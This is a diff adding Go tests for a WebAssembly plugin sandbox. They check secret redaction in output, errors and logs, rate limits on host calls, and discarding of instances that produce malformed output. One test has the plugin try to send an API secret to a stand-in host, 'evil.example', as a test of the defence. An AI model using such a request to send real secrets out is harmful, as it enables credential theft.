@@ -1,0 +1,119 @@
+package sandbox
+
+import (
+	"context"
+	"errors"
+	"log/slog"
+	"strings"
+	"sync/atomic"
+	"testing"
+)
+
+func TestSecretsReachThePluginButNotLogsOrErrors(t *testing.T) {
+	t.Parallel()
+	const secret = "s3cr3t-token-value"
+	var logs logRecorder
+	p := load(t, "guest", Options{
+		Grants: Grants{
+			Config:       map[string]string{"plain": "visible"},
+			Secrets:      map[string]string{"api_key": secret},
+			AllowedHosts: []string{"example.com"},
+		},
+		Logger: logs.logger(),
+	})
+	// The plugin reads the secret (its output is redacted: the value was
+	// exactly the secret).
+	if got := call(t, p, "config", "api_key"); got != "[REDACTED]" {
+		t.Errorf("config_get(api_key) output %q", got)
+	}
+	if got := call(t, p, "echo", "a "+secret+" b"); got != "a [REDACTED] b" {
+		t.Errorf("output %q", got)
+	}
+	if got := call(t, p, "config", "plain"); got != "visible" {
+		t.Errorf("config_get(plain) = %q", got)
+	}
+	// The plugin puts the secret in its error, and in a URL it may not reach.
+	_, err := p.Call(t.Context(), "fail", []byte("key="+secret))
+	if ce := wantKind(t, err, KindPlugin); ce.Message != "bad input: key=[REDACTED]" {
+		t.Errorf("error message %q", ce.Message)
+	}
+	_, err = p.Call(t.Context(), "http", []byte(`{"url":"https://evil.example/?k=`+secret+`"}`))
+	if ce := wantKind(t, err, KindTrap); strings.Contains(ce.Message, secret) || !strings.Contains(ce.Message, "[REDACTED]") {
+		t.Errorf("trap message %q", ce.Message)
+	}
+	// Whatever the sandbox logs for the plugin is redacted too.
+	p.logger.Warn("leak "+secret, "err", errors.New("wrapped "+secret), "s", secret, slog.Group("g", "x", secret))
+	logged := logs.buf.String()
+	if strings.Contains(logged, secret) || !strings.Contains(logged, "leak [REDACTED]") {
+		t.Errorf("log: %s", logged)
+	}
+
+	// A plugin without the grant reads nothing.
+	other := load(t, "guest", Options{})
+	if _, err := other.Call(t.Context(), "config", []byte("api_key")); err == nil {
+		t.Error("a plugin without the secret read it")
+	}
+	// A key may not be both a config value and a secret.
+	_, err = engine.Load(t.Context(), "guest", testWasm(t, "guest"), Options{Grants: Grants{
+		Config: map[string]string{"k": "a"}, Secrets: map[string]string{"k": "b"},
+	}})
+	if err == nil || !strings.Contains(err.Error(), `config key "k" is both a config value and a secret`) || strings.Contains(err.Error(), "b\"") {
+		t.Errorf("duplicate key: %v", err)
+	}
+}
+
+func TestHostCallFloodIsStopped(t *testing.T) {
+	t.Parallel()
+	var logs logRecorder
+	var calls atomic.Int64
+	p := load(t, "hostcall", Options{
+		Limits: Limits{HostCallsPerSecond: 100},
+		HostFunctions: hostcallFns(map[string]hostFn{"notify": func(context.Context, []byte) ([]byte, error) {
+			calls.Add(1)
+			return nil, errors.New("notify refused")
+		}}),
+		Logger: logs.logger(),
+	})
+	_, err := p.Call(t.Context(), "call_notify_many", []byte("100000"))
+	ce := wantKind(t, err, KindTrap)
+	if !strings.Contains(ce.Message, "host function notify: more than 100 host function calls per second (host_calls_per_second); the call is stopped") {
+		t.Errorf("flood: %q", ce.Message)
+	}
+	if n := calls.Load(); n != 100 {
+		t.Errorf("%d host calls ran, want the burst of 100", n)
+	}
+	// Each failure was logged within the call's log budget, not 100 times
+	// over without end.
+	if n := len(logs.records(t, "host function failed")); n == 0 || n > 100 {
+		t.Errorf("%d failure records", n)
+	}
+	// Within the rate, calls go through.
+	if _, err := p.Call(t.Context(), "call_notify_many", []byte("50")); err != nil {
+		t.Errorf("50 calls: %v", err)
+	}
+}
+
+func TestOutputCheckDiscardsTheInstance(t *testing.T) {
+	t.Parallel()
+	p := load(t, "guest", Options{Limits: Limits{MaxInstances: 1}})
+	call(t, p, "echo", "x") // the instance exists
+	ctx := WithOutputCheck(t.Context(), func(out []byte) error {
+		if string(out) == "bad" {
+			return errors.New("not good")
+		}
+		return nil
+	})
+	_, err := p.Call(ctx, "echo", []byte("bad"))
+	if ce := wantKind(t, err, KindMalformedOutput); ce.Message != "not good" {
+		t.Errorf("got %q", ce.Message)
+	}
+	p.pool.mu.Lock()
+	idle := len(p.pool.idle)
+	p.pool.mu.Unlock()
+	if idle != 0 {
+		t.Errorf("the instance that wrote malformed output was kept")
+	}
+	if out, err := p.Call(ctx, "echo", []byte("good")); err != nil || string(out) != "good" {
+		t.Errorf("after malformed output: %q, %v", out, err)
+	}
+}
